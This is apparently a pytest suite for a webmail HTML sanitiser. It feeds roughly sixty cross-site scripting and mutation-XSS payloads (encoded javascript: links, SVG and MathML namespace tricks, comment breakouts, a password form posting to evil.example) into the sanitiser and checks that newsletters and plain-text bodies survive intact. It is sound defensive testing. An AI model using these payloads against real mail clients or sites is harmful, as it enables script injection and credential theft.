"""HTML mail sanitising: attack vectors, newsletters that must survive, text bodies.

Every attack test checks the output twice: the specific dangerous thing is
gone, and a browser-like parse of the output holds nothing outside the policy
(`assert_safe`).
"""
from __future__ import annotations

import re
from html import escape
from email import message_from_bytes, policy
from pathlib import Path

import pytest
from bleach.html5lib_shim import HTMLParser

from core.mail.sanitize import (ALLOWED_TAGS, BLOCKED_ATTR, TOO_COMPLEX_HTML, SanitizedHtml,
                                mail_csp, sanitize_html, text_to_html)

SAMPLES = Path(__file__).parent / "mail_samples"
CIDS = {"logo@x.example": "/webmail/msg/7/part/2", "<photo@x.example>": "/webmail/msg/7/part/3",
        "amp@x.example": "/webmail/part?uid=7&part=4"}
TRUSTED_SRC = set(CIDS.values())


def clean(markup: str, allow_remote: bool = False, cid_map=None) -> SanitizedHtml:
    """Sanitise with the test's cid map and check the result is policy-clean."""
    result = sanitize_html(markup, allow_remote=allow_remote,
                           cid_map=CIDS if cid_map is None else cid_map)
    assert_safe(result.html, allow_remote)
    return result


def assert_safe(fragment: str, allow_remote: bool = False) -> None:
    """Parse FRAGMENT as a browser would and fail on anything outside the policy."""
    root = HTMLParser(namespaceHTMLElements=False).parseFragment(fragment)
    for el in root.iter():
        if el is root:
            continue
        assert isinstance(el.tag, str), "comment survived"
        assert el.tag in ALLOWED_TAGS, f"element <{el.tag}> survived"
        for name, value in el.attrib.items():
            assert not name.lower().startswith("on"), f"handler {name} survived"
            low = re.sub(r"[\s\x00-\x1f]", "", value).lower()
            assert "javascript:" not in low and "vbscript:" not in low, (name, value)
            if name == "href":
                assert re.match(r"(https?|mailto):", low), f"href {value!r}"
            if name == "src":
                raster = re.match(r"data:image/(png|gif|jpe?g|webp|bmp);", low)
                remote = allow_remote and re.match(r"https?:", low)
                assert value in TRUSTED_SRC or raster or remote, f"src {value!r}"
            if name == "style":
                for bad in ("expression", "behavior", "binding", "@import", "position"):
                    assert bad not in low, f"style {value!r}"
                if not allow_remote:
                    assert "http" not in low, f"remote url in style {value!r}"
            if name == "target":
                assert value == "_blank"
        assert not ({"srcset", "background", "formaction", "action", "srcdoc", "xlink:href",
                     "name", "id", "poster", "lowsrc", "dynsrc"} & set(el.attrib)), el.attrib


# (id, markup, substrings that must not appear in the output, case-insensitive)
VECTORS = [
    ("script-tag", "<script>alert(1)</script><p>hi</p>", ["<script", "alert(1)"]),
    ("img-onerror", "<img src=x onerror=alert(1)>", ["onerror", "alert"]),
    ("body-onload", '<body onload="alert(1)"><p>hi</p></body>', ["onload", "alert"]),
    ("js-href-tab-entity", '<a href="jav&#x09;ascript:alert(1)">x</a>', ["href", "alert"]),
    ("js-href-hex-entity", '<a href="&#x6A;avascript:alert(1)">x</a>', ["href", "alert"]),
    ("js-href-decimal-no-semicolon", '<a href="&#0000106avascript:alert(1)">x</a>', ["href"]),
    ("js-href-colon-entity", '<a href="javascript&colon;alert(1)">x</a>', ["href"]),
    ("js-href-case-space-newline", '<a href=" JaVa\nScRiPt:alert(1)">x</a>', ["href"]),
    ("vbscript-href", '<a href="vbscript:msgbox(1)">x</a>', ["vbscript", "href"]),
    ("data-html-href", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
     ["data:", "href"]),
    ("svg-onload", "<svg onload=alert(1)><circle r=4 /></svg>", ["svg", "onload"]),
    ("svg-image-href", '<svg><image href="https://t.example/svg.gif"/></svg>', ["t.example"]),
    ("svg-feimage", '<svg><filter id=f><feImage xlink:href="https://t.example/fe.png"/></filter>'
     '<rect filter="url(#f)"/></svg>', ["t.example", "feimage"]),
    ("svg-use-xlink", '<svg><use xlink:href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>',
     ["use", "data:"]),
    ("svg-anchor-js", '<svg><a xlink:href="javascript:alert(1)"><text>tap</text></a></svg>',
     ["javascript", "svg"]),
    ("mathml-maction", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">'
     "<mtext>click</mtext></maction></math>", ["maction", "javascript"]),
    ("mathml-href", '<math href="javascript:alert(1)">CLICKME</math>', ["javascript", "math"]),
    ("mathml-mglyph-style-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
     "</style></mglyph></table></mtext></math>", ["onerror", "mglyph"]),
    ("svg-style-namespace-confusion", "<svg><style><img src=x onerror=alert(1)></style></svg>",
     ["onerror", "alert"]),
    ("math-style-namespace-confusion", "<math><style><img src=x onerror=alert(1)></style></math>",
     ["onerror"]),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
     ["iframe", "srcdoc", "script"]),
    ("object-data", '<object data="javascript:alert(1)"><param name=x value=y></object>',
     ["object", "javascript", "param"]),
    ("embed-applet", '<embed src="https://evil.example/x.swf"><applet code="X.class"></applet>',
     ["embed", "evil.example", "applet"]),
    ("frameset", '<frameset><frame src="https://evil.example/"></frameset>', ["frame", "evil"]),
    ("form-action", '<form action="https://evil.example/steal"><input name=pw type=password>'
     "<p>Log in</p></form>", ["<form", "action", "<input", "evil.example"]),
    ("button-formaction", '<button formaction="javascript:alert(1)">Go</button>',
     ["formaction", "<button", "javascript"]),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>x</p>',
     ["refresh", "evil.example", "<meta"]),
    ("base-href", '<base href="https://evil.example/"><a href="https://ok.example/">ok</a>',
     ["<base", "evil.example"]),
    ("link-stylesheet", '<link rel=stylesheet href="https://evil.example/x.css"><p>x</p>',
     ["<link", "evil.example"]),
    ("style-expression", '<p style="width: expression(alert(1)); color: red">x</p>',
     ["expression", "alert"]),
    ("style-expression-escaped", r'<p style="width: expr\65 ssion(alert(1))">x</p>', ["alert"]),
    ("style-url-javascript", '<p style="background-image: url(javascript:alert(1))">x</p>',
     ["javascript", "url("]),
    ("style-behavior-binding", '<p style="behavior: url(x.htc); -moz-binding: url(http://e.example/'
     'x.xml#x); color: red">x</p>', ["behavior", "binding", "e.example"]),
    ("style-import-in-attr", "<p style=\"@import 'https://evil.example/x.css'; color: red\">x</p>",
     ["@import", "evil.example"]),
    ("style-remote-background", '<table><tr><td style="background-image: '
     'url(https://t.example/bg.png)">x</td></tr></table>', ["t.example", "url("]),
    ("style-escaped-url-function", r'<p style="background: u\72 l(https://t.example/e.png)">x</p>',
     ["t.example"]),
    ("style-image-set",
     "<p style=\"background-image: image-set('https://t.example/i.png' 1x)\">x</p>",
     ["t.example", "image-set"]),
    ("style-breakout-quote", "<p style=\"font-family: '</style><script>alert(1)</script>'\">x</p>",
     ["<script", "</style"]),
    ("style-position-overlay", '<div style="position: fixed; top: 0; z-index: 9">fake login</div>',
     ["position", "z-index"]),
    ("background-attribute",
     '<table background="https://t.example/bg.jpg"><tr><td>x</td></tr></table>',
     ["background=", "t.example"]),
    ("style-element-text", "<style>.x{color:red} LEAKED_CSS</style><p>Hi</p>",
     ["leaked_css", "color:red"]),
    ("title-element-text", "<html><head><title>LEAKED_TITLE</title></head><body>Hi</body></html>",
     ["leaked_title"]),
    # The payload may survive as inert attribute text; what matters is no <img> element.
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
     ["<img", "<noscript"]),
    ("template-content", "<template><img src=x onerror=alert(1)>HIDDEN_TPL</template>",
     ["onerror", "hidden_tpl"]),
    ("xml-data-island", "<xml><x:y><img src=x onerror=alert(1)></x:y></xml>", ["onerror"]),
    ("comment-early-close", "<!--><img src=x onerror=alert(1)>-->", ["onerror"]),
    ("comment-bang-close", "<!-- --!><img src=x onerror=alert(1)> -->", ["onerror"]),
    ("conditional-comment", "<!--[if gte mso 9]><script>alert(1)</script><![endif]--><p>x</p>",
     ["script", "alert", "mso"]),
    ("downlevel-revealed", "<![if !IE]><img src=x onerror=alert(1)><![endif]>", ["onerror"]),
    ("unclosed-attribute", '<img src=x onerror=alert(1)//', ["onerror"]),
    ("unclosed-anchor", '<p>a<a href="javascript:alert(1)">b', ["javascript"]),
    ("xmp-rawtext", "<xmp><img src=x onerror=alert(1)></xmp>", ["<img", "<xmp"]),
    ("plaintext-rawtext", "<plaintext><img src=x onerror=alert(1)>", ["<img", "<plaintext"]),
    ("textarea-rcdata", "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
     ["onerror"]),
    ("srcset-remote", '<img srcset="https://t.example/a.png 1x, https://t.example/b.png 2x" alt=a>',
     ["srcset", "t.example"]),
    ("img-lowsrc-dynsrc", '<img lowsrc="javascript:alert(1)" dynsrc="https://t.example/v.avi">',
     ["lowsrc", "dynsrc", "t.example"]),
    ("data-svg-img", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
     ["svg", "data:"]),
    ("video-poster-audio", '<video poster="https://t.example/p.png"><source src="https://t.example/'
     'v.mp4"></video><audio src="https://t.example/a.mp3"></audio>', ["t.example", "video"]),
    ("input-image", '<input type=image src="https://t.example/x.png">', ["t.example", "input"]),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>s</summary></details>",
     ["ontoggle"]),
    ("dom-clobbering", '<img name="getElementById" id="cookie" src="cid:logo@x.example">',
     ["name=", "id="]),
    ("html-image-tag", "<image src=x onerror=alert(1)>", ["onerror"]),
]


def test_there_are_at_least_thirty_distinct_vectors():
    ids = [v[0] for v in VECTORS]
    assert len(set(ids)) == len(ids) >= 30


@pytest.mark.parametrize("markup,forbidden", [v[1:] for v in VECTORS], ids=[v[0] for v in VECTORS])
def test_attack_vector_is_neutralised(markup, forbidden):
    out = clean(markup).html.lower()
    for needle in forbidden:
        assert needle.lower() not in out


@pytest.mark.parametrize("markup", [v[1] for v in VECTORS], ids=[v[0] for v in VECTORS])
def test_attack_vector_output_is_stable(markup):
    once = clean(markup).html
    assert clean(once).html == once


def test_tracker_pixel_removed_and_counted_even_when_remote_allowed():
    markup = '<p>Hi</p><img src="https://t.example/o/abc" width="1" height="1" alt="">'
    for allow in (False, True):
        result = clean(markup, allow_remote=allow)
        assert "t.example" not in result.html and "<img" not in result.html
        assert result.blocked == {"trackers": 1} and result.has_remote


@pytest.mark.parametrize("img", [
    '<img src="https://t.example/a.gif" style="display:none">',
    '<img src="https://t.example/a.gif" width="0" height="0">',
    '<img src="https://t.example/a.gif" style="width:1px;height:1px">',
    '<img src="https://esp.example/wf/open?upn=abc" width="600">',
])
def test_hidden_zero_or_known_pixels_are_trackers(img):
    assert clean(img, allow_remote=True).blocked == {"trackers": 1}


def test_remote_image_blocked_keeps_alt_and_placeholder_marker():
    result = clean('<img src="https://cdn.example/hero.jpg" alt="Spring sale" width="600">')
    assert result.blocked == {"images": 1} and result.has_remote
    assert 'alt="Spring sale"' in result.html and f'{BLOCKED_ATTR}="1"' in result.html
    assert "cdn.example" not in result.html and 'width="600"' in result.html


def test_remote_content_allowed_when_asked():
    markup = ('<img src="https://cdn.example/hero.jpg" alt="x">'
              '<table><tr><td style="background-image: url(https://cdn.example/bg.png)">x</td>'
              "</tr></table>")
    result = clean(markup, allow_remote=True)
    assert 'src="https://cdn.example/hero.jpg"' in result.html
    assert re.search(r"url\((\"|&quot;|')https://cdn.example/bg.png", result.html)
    assert result.blocked == {} and result.has_remote


def test_remote_css_background_blocked_and_counted():
    result = clean('<table><tr><td style="color: red; '
                   'background: #fff url(https://t.example/b.png)">x</td></tr></table>')
    assert result.blocked == {"images": 1} and f'{BLOCKED_ATTR}="1"' in result.html
    assert "color: red" in result.html


def test_remote_stylesheets_counted():
    markup = ('<html><head><link rel="stylesheet" href="https://evil.example/a.css">'
              "<style>@import url(https://evil.example/b.css); p { color: red }</style></head>"
              "<body><p>x</p></body></html>")
    result = clean(markup)
    assert result.blocked == {"stylesheets": 2} and result.has_remote
    assert result.html == "<p>x</p>"


def test_links_open_in_new_tab_without_referrer():
    out = clean('<a href="http://x.example/" target="_self" rel="opener">x</a>').html
    assert out == '<a href="http://x.example/" rel="noopener noreferrer" target="_blank">x</a>'


def test_mailto_kept_and_relative_or_ftp_links_dropped():
    out = clean('<a href="mailto:a@b.example">m</a><a href="/admin">r</a>'
                '<a href="ftp://f.example/">f</a>').html
    assert 'href="mailto:a@b.example"' in out
    assert "/admin" not in out and "ftp:" not in out


def test_cid_images_rewritten_through_map():
    out = clean('<img src="cid:logo@x.example" alt="logo">'
                '<img src="CID:%3Cphoto@x.example%3E">').html
    assert 'src="/webmail/msg/7/part/2"' in out and 'src="/webmail/msg/7/part/3"' in out


def test_unknown_cid_removed_without_placeholder():
    result = clean('<img src="cid:missing@x.example" alt="gone">')
    assert "cid:" not in result.html and "src" not in result.html
    assert result.blocked == {} and not result.has_remote


def test_cid_in_css_background_and_background_attribute():
    out = clean('<table background="cid:logo@x.example"><tr><td style="background-image: '
                'url(cid:photo@x.example)">x</td></tr></table>').html
    for part in (2, 3):
        assert re.search(rf"background-image: url\((\"|&quot;|')/webmail/msg/7/part/{part}", out)


def test_relative_src_not_in_cid_map_is_dropped():
    out = clean('<img src="/webmail/logout"><img src="part/2">').html
    assert "logout" not in out and "part/2" not in out


def test_data_raster_image_allowed_svg_not():
    png = ("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4"
           "nGNgYPgPAAEDAQA=")
    out = clean(f'<img src="{png}" alt="dot">').html
    assert f'src="{png}"' in out


def test_idempotent_with_cids_ampersands_and_remote_allowed():
    markup = ('<body bgcolor="#eeeeee"><img src="cid:amp@x.example">'
              '<img src="https://cdn.example/a.png?a=1&amp;b=2">'
              '<p style="font-family: \'A&amp;B\', Georgia, \'Times New Roman\', serif; '
              'background: url(https://cdn.example/b.png?c=1&amp;d=2)">x</p></body>')
    for allow in (False, True):
        once = clean(markup, allow_remote=allow).html
        assert clean(once, allow_remote=allow).html == once
        assert "&amp;amp;" not in once and 'src="/webmail/part?uid=7&amp;part=4"' in once


def test_body_background_colour_kept_on_wrapper():
    out = clean('<body bgcolor="#fffff0" text="#333333" style="margin:0"><p>x</p></body>').html
    assert out.startswith('<div style="background-color: #fffff0; color: #333333; margin: 0;">')


@pytest.mark.parametrize("opening", ["<div>", "<b>", "<table><tr><td>", "<span>"])
def test_absurd_nesting_is_refused_not_parsed_for_minutes(opening):
    result = clean(opening * 20_000 + "deep")
    assert result.html == TOO_COMPLEX_HTML and result.blocked == {"too_complex": 1}


def test_formatting_element_amplification_is_refused():
    # Each <p> re-opens all 480 unclosed <font>s: 6 KB would become 50,000+ elements.
    markup = "<p>" + "".join(f"<font a={i}>" for i in range(480)) + "</p>" + "<p>x" * 500
    assert clean(markup).blocked == {"too_complex": 1}


def test_deep_but_plausible_nesting_is_kept():
    assert "deep" in clean("<div>" * 300 + "deep").html


def test_empty_and_frameset_documents():
    assert clean("").html == ""
    assert clean("<frameset><frame src=x></frameset>").html == ""


def _sample_html(name: str) -> str:
    """The HTML body of a sample message, read with the stdlib only."""
    msg = message_from_bytes((SAMPLES / name).read_bytes(), policy=policy.default)
    return msg.get_body(preferencelist=("html",)).get_content()


def test_newsletter_library_layout_survives():
    result = clean(_sample_html("newsletter_library.eml"))
    out = result.html
    assert out.count("<table") == 3 and 'width="600"' in out and 'role="presentation"' in out
    for style in ("width: 600px", "max-width: 600px", "background-color: #1d4e89",
                  "border-collapse: collapse", "font-size: 26px", "border-radius: 4px",
                  "padding: 12px 28px", "line-height: 24px"):
        assert style in out, style
    assert re.search(r"font-family: Georgia, (\"|&quot;)Times New Roman", out)
    assert 'align="center"' in out and 'valign="top"' in out and 'bgcolor="#e9ecef"' in out
    assert "Liebe Leserinnen und Leser," in out and "Öffnungszeiten Ostern" in out
    assert "Lesenacht, neue E-Books" in out  # the preheader text stays (it is hidden by CSS)
    assert ('href="https://news.stadtbibliothek-lindenau.example/c/lesenacht?utm_source=newsletter'
            '&amp;utm_medium=email"') in out
    assert 'target="_blank"' in out and "_self" not in out
    assert "PixelsPerInch" not in out and "@media" not in out
    assert "Neuigkeiten im März</title>" not in out
    assert result.blocked == {"images": 1, "trackers": 1}


def test_newsletter_product_layout_and_cid_logo_survive():
    out = clean(_sample_html("newsletter_product.eml"),
                cid_map={"logo.acme@mail.acme-cloud.example": "/webmail/msg/7/part/2"}).html
    assert 'src="/webmail/msg/7/part/2"' in out and 'alt="Acme Cloud"' in out
    assert "<center>" in out and 'width="600"' in out and "margin: 0 auto" in out
    assert "border: 1px solid #dee2e6" in out and "border-radius: 8px" in out
    assert 'bgcolor="#0d6efd"' in out and 'class="btn"' in out
    assert 'href="mailto:support@acme-cloud.example?subject=Question%20about%20Snapshots"' in out
    assert out.count("<li>") == 3 and "<b>Snapshots</b>" in out
    assert "btn:hover" not in out  # <style> content never leaks as text


def test_newsletter_club_legacy_markup_survives():
    result = clean(_sample_html("newsletter_club.eml"))
    out = result.html
    assert out.startswith('<div style="background-color: #FFFFF0; color: #333333;">')
    assert '<font color="#FFFFFF" face="Verdana, Arial" size="5">' in out
    assert 'border="1"' in out and 'cellpadding="4"' in out and 'bgcolor="#E8F0E0"' in out
    assert "Cotisation 2025 : 35 € — merci" in out and "Pas de l'Œille" in out
    assert "La Gazette du Club</title>" not in out and "montagne.jpg" not in out
    assert result.blocked == {"images": 1} and f'{BLOCKED_ATTR}="1"' in out


@pytest.mark.parametrize("name", ["newsletter_library.eml", "newsletter_product.eml",
                                  "newsletter_club.eml"])
def test_newsletters_are_idempotent(name):
    once = clean(_sample_html(name)).html
    assert clean(once).html == once


def test_csp_strings():
    local, remote = mail_csp(False, "n0nce"), mail_csp(True, "n0nce")
    for csp in (local, remote):
        for directive in ("default-src 'none'", "script-src 'none'", "object-src 'none'",
                          "base-uri 'none'", "form-action 'none'", "font-src 'none'",
                          "style-src-attr 'unsafe-inline';",
                          "style-src-elem 'nonce-n0nce';"):  # our stylesheet, nothing else
            assert directive in csp
        assert "unsafe-eval" not in csp
    assert "http" not in local
    assert "img-src 'self' data: https: http:" in remote
    assert remote.replace(" https: http:", "") == local  # only img-src widens


def test_text_to_html_escapes_markup():
    out = text_to_html('<script>alert("x")</script> & <b>')
    assert "<script" not in out and "&lt;script&gt;" in out and "&amp; &lt;b&gt;" in out


def test_text_to_html_links_urls_and_addresses():
    out = text_to_html("See https://example.org/a?b=1&c=2. Or mail help@example.org, "
                       "or (https://en.example/wiki/Foo_(bar)).")
    assert ('<a href="https://example.org/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">'
            "https://example.org/a?b=1&amp;c=2</a>.") in out
    assert '<a href="mailto:help@example.org"' in out
    assert 'href="https://en.example/wiki/Foo_(bar)"' in out



@pytest.mark.parametrize("text,url,after", [
    ("https://en.wikipedia.org/wiki/Foo_(bar)", "https://en.wikipedia.org/wiki/Foo_(bar)", ""),
    ("https://en.wikipedia.org/wiki/A_(b_(c))", "https://en.wikipedia.org/wiki/A_(b_(c))", ""),
    ("https://en.wikipedia.org/wiki/A_(b_(c)));", "https://en.wikipedia.org/wiki/A_(b_(c))", ");"),
    ("https://example.org/list[1]", "https://example.org/list[1]", ""),
    ("https://example.org/a_(b)';", "https://example.org/a_(b)", "';"),
    ("https://example.org/a);", "https://example.org/a", ");"),
    ("https://example.org/a')", "https://example.org/a", "')"),
    ("https://example.org/a]", "https://example.org/a", "]"),
    ("https://example.org/a.", "https://example.org/a", "."),
    ("https://example.org/a,", "https://example.org/a", ","),
    ("https://example.org/a!?", "https://example.org/a", "!?"),
    ("https://example.org/a:", "https://example.org/a", ":"),
    ("https://example.org/it's", "https://example.org/it's", ""),
    ("mailto:ann@example.org);", "mailto:ann@example.org", ");"),
])
def test_text_links_stop_at_trailing_punctuation_but_keep_balanced_brackets(text, url, after):
    out = text_to_html(text)
    link = f'<a href="{escape(url)}" target="_blank" rel="noopener noreferrer">{escape(url)}</a>'
    assert out == f'<div class="mail-text">{link}{escape(after)}</div>'


def test_text_to_html_never_links_other_schemes_or_breaks_attributes():
    out = text_to_html('javascript:alert(1) ftp://x.example '
                       'https://x.example/"onmouseover="alert(1)')
    assert "javascript:alert(1)" in out and 'href="javascript' not in out and 'href="ftp' not in out
    assert 'onmouseover="' not in out
    assert_safe(out.replace('<div class="mail-text">', "<div>"))


def test_text_to_html_folds_nested_quotes():
    text = "My answer.\r\n> You wrote:\r\n> > Original\r\n> > line two\r\n> back\r\nSign-off"
    out = text_to_html(text)
    assert out == ('<div class="mail-text">My answer.<blockquote class="quoted">You wrote:'
                   '<blockquote class="quoted">Original\nline two</blockquote>back</blockquote>'
                   "Sign-off</div>")


def test_text_to_html_closes_quotes_at_end():
    out = text_to_html("> only quoted\n>> deeper")
    assert out.count("<blockquote") == out.count("</blockquote>") == 2
